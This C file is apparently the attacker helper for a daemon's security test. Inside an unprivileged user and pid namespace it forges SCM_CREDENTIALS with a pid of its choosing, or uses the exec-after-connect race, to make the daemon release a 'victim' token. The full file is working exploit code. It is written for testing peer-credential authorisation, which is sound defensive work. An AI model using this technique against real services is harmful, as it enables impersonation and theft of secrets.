/*
 * Attacker for auth/attack_userns_test.go: forged SCM_CREDENTIALS from inside
 * an unprivileged user+pid namespace.
 *
 *   forge_cred MODE SOCK APPROVED
 *
 * As an ordinary user it creates a user namespace (where it is root) and a
 * pid namespace owned by it. The first process there (pid 1, "the
 * connector") connects to the daemon at SOCK, forks a holder that keeps the
 * connection, and execs APPROVED. Once the connector runs APPROVED, the
 * holder writes the request:
 *
 * MODE
 *   forge   with SCM_CREDENTIALS naming pid 1 (the connector), which the
 *           kernel allows to a process with CAP_SYS_ADMIN over its pid
 *           namespace; the daemon receives the connector's pid
 *   honest  without credentials of its own (the kernel attaches the
 *           holder's: the exec-after-connect attack, for comparison)
 *
 * Output: "skip: <why>" when the kernel refuses the namespaces; "connected"
 * once connected; "sent" once the request is written; "answer: <line>" for
 * the daemon's reply.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char request[] = "{\"type\":\"REQUEST\",\"action\":\"read\",\"service\":\"victim\",\"targets\":[\"token\"]}\n";

static void die(const char *what) {
	perror(what);
	exit(3);
}

static void skip(const char *what) {
	printf("skip: %s: %s\n", what, strerror(errno));
	fflush(stdout);
	exit(4);
}

static void write_file(const char *path, const char *text) {
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		skip(path);
	close(fd);
}

/* enter_userns makes the caller root in a new user namespace (mapping its
 * own uid and gid only, as any user may) and its children members of a new
 * pid namespace owned by it. */
static void enter_userns(void) {
	uid_t uid = getuid();
	gid_t gid = getgid();
	char map[64];
	if (unshare(CLONE_NEWUSER | CLONE_NEWPID) < 0)
		skip("unshare(CLONE_NEWUSER|CLONE_NEWPID)");
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", (unsigned)uid);
	write_file("/proc/self/uid_map", map);
	snprintf(map, sizeof map, "0 %u 1", (unsigned)gid);
	write_file("/proc/self/gid_map", map);
}

static int dial(const char *path) {
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	if (fd < 0)
		die("socket");
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	if (strlen(path) >= sizeof a.sun_path)
		die("socket path too long");
	strcpy(a.sun_path, path);
	if (connect(fd, (struct sockaddr *)&a, sizeof a) < 0)
		die("connect");
	return fd;
}

/* wait_exec polls until the process at procdir runs approved (10 s). */
static void wait_exec(const char *procdir, const char *approved) {
	char link[PATH_MAX], target[PATH_MAX];
	snprintf(link, sizeof link, "%s/exe", procdir);
	for (int i = 0; i < 10000; i++) {
		ssize_t n = readlink(link, target, sizeof target - 1);
		if (n > 0) {
			target[n] = 0;
			if (strcmp(target, approved) == 0)
				return;
		}
		struct timespec ms = {0, 1000000};
		nanosleep(&ms, NULL);
	}
	fprintf(stderr, "%s never ran %s\n", procdir, approved);
	exit(3);
}

static void send_request(int fd, pid_t as, int forge) {
	struct iovec iov = {.iov_base = (void *)request, .iov_len = sizeof request - 1};
	union {
		char buf[CMSG_SPACE(sizeof(struct ucred))];
		struct cmsghdr align;
	} u;
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1};
	if (forge) {
		memset(&u, 0, sizeof u);
		m.msg_control = u.buf;
		m.msg_controllen = sizeof u.buf;
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_CREDENTIALS;
		c->cmsg_len = CMSG_LEN(sizeof(struct ucred));
		struct ucred cred = {.pid = as, .uid = 0, .gid = 0};
		memcpy(CMSG_DATA(c), &cred, sizeof cred);
	}
	if (sendmsg(fd, &m, 0) < 0)
		die("sendmsg");
	printf("sent\n");
	fflush(stdout);
}

static void holder(int fd, const char *procdir, const char *approved, int forge) {
	wait_exec(procdir, approved);
	send_request(fd, 1, forge);
	char buf[512];
	ssize_t n = read(fd, buf, sizeof buf - 1);
	buf[n > 0 ? n : 0] = 0;
	printf("answer: %s\n", buf);
	fflush(stdout);
	_exit(0);
}

/* connector runs as pid 1 of the new pid namespace. */
static void connector(const char *sock, const char *approved, int forge) {
	/* /proc is still the outer one: /proc/self names this process by its
	 * pid there, which the holder needs to watch it. */
	char self[32], procdir[64];
	ssize_t n = readlink("/proc/self", self, sizeof self - 1);
	if (n <= 0)
		die("readlink /proc/self");
	self[n] = 0;
	snprintf(procdir, sizeof procdir, "/proc/%s", self);
	int fd = dial(sock);
	printf("connected\n");
	fflush(stdout);
	pid_t pid = fork();
	if (pid < 0)
		die("fork");
	if (pid == 0)
		holder(fd, procdir, approved, forge);
	execl(approved, "approved", "30", (char *)NULL);
	die("exec");
}

int main(int argc, char **argv) {
	if (argc != 4) {
		fprintf(stderr, "usage: %s forge|honest SOCK APPROVED\n", argv[0]);
		return 2;
	}
	int forge = strcmp(argv[1], "forge") == 0;
	enter_userns();
	pid_t pid = fork();
	if (pid < 0)
		skip("fork into the new pid namespace");
	if (pid == 0)
		connector(argv[2], argv[3], forge);
	int status;
	waitpid(pid, &status, 0);
	return 0;
}
